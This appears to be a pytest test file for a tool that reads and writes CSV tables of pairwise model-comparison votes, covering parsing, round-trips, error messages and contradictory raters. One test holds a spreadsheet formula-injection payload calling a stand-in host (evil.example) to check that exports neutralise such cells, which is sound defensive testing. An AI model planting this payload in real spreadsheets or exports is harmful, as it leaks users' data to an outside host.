from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from weighbridge.core.ballots import CHOICES, Ballot
from weighbridge.core.errors import InputError
from weighbridge.measure.ratings.votes_file import contradictions, read_votes, votes_csv

HEADER = "item,rater,a,b,winner\n"


def written(folder: Path, text: str) -> Path:
    path = folder / "votes.csv"
    path.write_text(text, encoding="utf-8")
    return path


def test_votes_of_any_origin(tmp_path: Path) -> None:
    text = "\ufeffWinner;Item;rater;a;b;colour\nA;1;p;x;y;red\n\nboth_bad;2;;y;x;\n"
    ballots, unknown = read_votes(written(tmp_path, text))
    assert ballots == (Ballot("1", "p", "x", "y", "a"), Ballot("2", "", "y", "x", "both_bad"))
    assert unknown == ("colour",)


def test_the_words_of_other_tables(tmp_path: Path) -> None:
    told = ("model_a", "model_b", "tie", "tie (bothbad)")
    text = HEADER + "".join(f"{n},p,x,y,{word}\n" for n, word in enumerate(told))
    ballots, _ = read_votes(written(tmp_path, text))
    assert [one.winner for one in ballots] == ["a", "b", "tie", "both_bad"]


def test_no_cell_is_a_formula_and_import_reads_what_export_wrote(tmp_path: Path) -> None:
    evil = '=HYPERLINK("http://evil.example/?"&A1)'
    ballots = (
        Ballot(evil, "@p", "-x", "+y", "a", reason=f"'{evil}", task="=t", group="-g"),
        Ballot("-5", "p", "-x", "+y", "b", reason="-1.5"),
    )
    text = votes_csv(ballots)
    first = text.splitlines()[1]
    assert first.startswith("\"'=HYPERLINK(")
    assert ",'@p,'-x,'+y,a,'=t,'-g,\"''=HYPERLINK" in first
    assert text.splitlines()[2].startswith("-5,p,"), "numbers stay numbers"
    assert read_votes(written(tmp_path, text)) == (ballots, ())


TEXT = st.text(st.characters(exclude_categories=("C", "Z")), min_size=1, max_size=8)


@given(
    ballots=st.lists(
        st.builds(
            Ballot,
            TEXT,
            TEXT,
            st.just("x"),
            TEXT.filter(lambda name: name != "x"),
            st.sampled_from(CHOICES),
            task=TEXT,
            reason=TEXT.map(lambda text: f'{text}\n"quoted", {text}'),
            judge=st.booleans(),
            time=TEXT,
        ),
        min_size=1,
    )
)
def test_what_is_written_is_read(
    tmp_path_factory: pytest.TempPathFactory, ballots: list[Ballot]
) -> None:
    path = tmp_path_factory.mktemp("votes") / "votes.csv"
    path.write_text(votes_csv(ballots), encoding="utf-8", newline="")
    assert read_votes(path) == (tuple(ballots), ())


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("", "no column"),
        (HEADER, "no votes"),
        ("item,rater,a,winner\n1,p,x,a\n", "no column b"),
        ("item,item,rater,a,b,winner\n", "two columns item"),
        (HEADER + "1,p,x,y,c\n", "line 2: the winner is 'c'"),
        (HEADER + "1,p,x,y\n", "line 2: 4 cells"),
        (HEADER + "1,p,x,x,a\n", "compared with itself"),
        (HEADER + ",p,x,y,a\n", "item is empty"),
        (HEADER + '1,p,x,y,"a\n', "line 2"),
        ("item,rater,a,b,winner,judge\n1,p,x,y,a,perhaps\n", "judge is 'perhaps'"),
    ],
)
def test_what_is_no_table_of_votes(tmp_path: Path, text: str, said: str) -> None:
    with pytest.raises(InputError, match=said):
        read_votes(written(tmp_path, text))


def test_no_file(tmp_path: Path) -> None:
    with pytest.raises(InputError, match="Cannot read"):
        read_votes(tmp_path / "none.csv")
    (tmp_path / "votes.csv").write_bytes(b"\xff\xfe\x00")
    with pytest.raises(InputError, match="UTF-8"):
        read_votes(tmp_path / "votes.csv")


def test_a_rater_of_two_minds_is_found_whichever_side_the_models_stood_on() -> None:
    first = Ballot("1", "p", "x", "y", "a")
    same, other = Ballot("1", "p", "y", "x", "b"), Ballot("1", "p", "y", "x", "a")
    assert contradictions((first, same, Ballot("2", "p", "x", "y", "b"))) == (0, ())
    assert contradictions((first, same, other, other)) == (1, (first, other))
    assert contradictions((first, Ballot("1", "q", "x", "y", "b"))) == (0, ())
    nobody = (Ballot("1", "", "x", "y", "a"), Ballot("1", "", "x", "y", "b"))
    assert contradictions(nobody) == (0, ())
